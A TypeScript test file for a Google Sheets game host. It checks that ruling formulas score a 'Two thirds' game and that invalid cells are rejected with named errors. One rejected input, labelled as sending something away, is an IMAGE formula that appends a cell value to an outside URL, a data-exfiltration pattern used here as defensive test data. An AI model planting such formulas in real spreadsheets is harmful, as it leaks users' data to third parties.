import { ask, privateFile, problemOf, resolve, spectatorFile, stateOf, submit, tryAsk } from '../season.ts';
import { ownMatch, ruledCell, ruleRound, setIterative, typeRuling } from './season.ts';

describe('a described game that formulas rule', () => {
  test('O2 O8 Two thirds: the rule gives the nearest player a point, and a typed value counts for one round', () => {
    const host = ownMatch('two-thirds');
    submit(host, 1, 'Ann', { 'Your number': '30' });
    submit(host, 1, 'Ben', { 'Your number': '20' });
    // 3 × 30 − 2 × 25 = 40, 3 × 20 − 2 × 25 = 10.
    expect(ruleRound(host)).toMatchObject({ round: 1 });
    const ruling = (round: number) => JSON.parse(ask(host, 'exportRecord', 1)).rounds[round].ruling.columns;
    expect(JSON.stringify(spectatorFile(host))).toContain('The host’s formulas computed all new values.');
    expect(ruling(0)).toEqual({
      Ann: { distanceTimes3: 40 },
      Ben: { distanceTimes3: 10, points: 1 },
    });
    const formula = ruledCell(host, 'New: Points', 'Cat');
    expect(formula).toMatch(/^=\$D11 \+ IF\(/);
    typeRuling(host, 'New: Points', 'Cat', '7');
    submit(host, 1, 'Cat', { 'Your number': '0' });
    ruleRound(host);
    expect(ruling(1)).toEqual({
      Ann: { distanceTimes3: 0 },
      Ben: { distanceTimes3: 0 },
      Cat: { points: 7 },
    });
    expect(ruledCell(host, 'New: Points', 'Cat')).toBe(formula);
    for (const page of [spectatorFile(host), privateFile(host, 'Ann')])
      expect(JSON.stringify(page)).toContain(
        'The host typed Cat, Points: 7. Formulas computed the other new values.',
      );
    expect(ask(host, 'verify')).toMatchObject({ fault: '', rounds: 2 });
    expect(stateOf(host).matches[0]?.problem).toBeNull();
  });

  test.each([
    ['an error', '=1/0', /This round of Two thirds'!G9: found the error #DIVIDE_BY_ZERO, expected a value/],
    ['a reference to a tab that is gone', '=#REF!A1', /G9: found the error #REF, expected a value/],
    ['another tab', '=Season!B9', /G9: found =Season!B9, expected a formula that reads only this tab/],
    ['a circular reference', '=G9+1', /G9: found the error #REF, expected a value/],
    ['a formula that sends something away', '=IMAGE("https://a.b/"&C9)', /expected a formula without IMAGE/],
    [
      'the time',
      '=NOW()',
      /G9: found =NOW\(\), expected a formula without NOW: let a column or fact be drawn/,
    ],
    ['the date', '=IF(TODAY()>1;1;0)', /expected a formula without TODAY: let/],
    ['a fraction', '=5/2', /G9: found 2.5, expected a whole number/],
    ['a date', '1/2', /G9: found a date or time \(46024\), expected a whole number/],
    ['a text', 'seven', /G9: found the text “seven”, expected a whole number/],
    ['a truth', 'TRUE', /G9: found TRUE, expected a whole number/],
    ['a decimal comma', '1,5', /G9: found the text “1,5”, expected a whole number/],
    ['chance', '=RANDBETWEEN(1;6)', /G9: found =RANDBETWEEN\(1[;,]6\), expected a formula without RAND/],
    ['a number that is too large', '2000000000', /G9: expected a whole number from -1000000000/],
  ])('O2 %s in a cell of the ruling is named, and nothing is resolved', (_, typed, words) => {
    const host = ownMatch('two-thirds');
    typeRuling(host, 'New: Points', 'Ann', typed);
    const answer = tryAsk(host, 'preview', { match: 1, round: 0, early: true });
    expect(answer.ok ? '' : answer.problem.what).toMatch(words);
    expect(resolve(host, 1).value).toMatchObject({ ok: false });
    typeRuling(host, 'New: Points', 'Ann', '');
    ruleRound(host);
  });

  test('O10 a formula beside the block is checked, too: it may lead into the block', () => {
    const host = ownMatch('two-thirds');
    typeRuling(host, 'N20', '', '=RAND()');
    typeRuling(host, 'New: Points', 'Ann', '=IF(N20>2;1;0)');
    const answer = tryAsk(host, 'preview', { match: 1, round: 0, early: true });
    expect(problemOf(answer)).toContain('!N20: found =RAND(), expected a formula without RAND');
    typeRuling(host, 'N20', '', '=3+4');
    ruleRound(host);
    expect(ruledCell(host, 'Points', 'Ann')).toBe(1);
  });

  test('O2 iterative calculation must be off', () => {
    const host = ownMatch('two-thirds');
    setIterative(host, true);
    expect(problemOf(tryAsk(host, 'preview', { match: 1, round: 0, early: true }))).toBe(
      'The spreadsheet computes circular references. A value would depend on how often Google computes it.',
    );
    expect(resolve(host, 1).value).toMatchObject({ ok: false });
    setIterative(host, false);
    ruleRound(host);
  });

  test('O2 the preview binds: an order or a cell that came since is said, and nothing is resolved', () => {
    const host = ownMatch('two-thirds');
    const request = { match: 1, round: 0, early: true };
    const { ruled } = ask(host, 'preview', request);
    submit(host, 1, 'Ann', { 'Your number': '30' });
    const answer = tryAsk(host, 'resolveRound', { ...request, ruled });
    expect(answer.ok ? '' : answer.problem.what).toBe('Orders or cells have changed since the preview.');
    ruleRound(host);
  });
});
